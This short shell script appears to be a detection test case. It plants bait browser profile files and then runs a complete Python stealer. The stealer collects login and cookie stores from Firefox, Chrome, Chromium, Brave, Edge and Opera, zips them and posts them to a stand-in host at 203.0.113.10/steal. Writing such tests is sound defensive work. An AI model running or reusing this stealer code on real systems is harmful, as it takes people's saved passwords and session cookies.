#!/bin/sh
. /opt/case/case.sh

python3 - <<'END'
import glob, io, os, shutil, sqlite3, urllib.request, zipfile
for d in ("/home/dev/.mozilla/firefox/x.default", "/home/dev/.config/google-chrome/Default"): os.makedirs(d)
for f in ("/home/dev/.mozilla/firefox/x.default/cookies.sqlite", "/home/dev/.config/google-chrome/Default/Cookies"): c = sqlite3.connect(f); c.execute("create table cookies(host, value)"); c.execute("insert into cookies values('console.cloud.example', 'bait')"); c.commit()
for f in ("/home/dev/.mozilla/firefox/x.default/logins.json", "/home/dev/.mozilla/firefox/x.default/key4.db", "/home/dev/.config/google-chrome/Default/Login Data"): open(f, "w").write("bait")
b = io.BytesIO(); z = zipfile.ZipFile(b, "w"); n = 0
for p in ("*/.mozilla/firefox/*/*", "*/.config/google-chrome/*/*", "*/.config/chromium/*/*", "*/.config/BraveSoftware/*/*/*", "*/.config/microsoft-edge/*/*", "*/.config/opera/*"):
    for f in glob.glob("/home/" + p) + glob.glob("/root/" + p):
        if os.path.basename(f) in ("logins.json", "key4.db", "cookies.sqlite", "Cookies", "Login Data", "Web Data", "Local State"): z.write(f); n += 1
z.close(); urllib.request.urlopen("http://203.0.113.10/steal", b.getvalue()).read(); assert n == 5
END
took_place
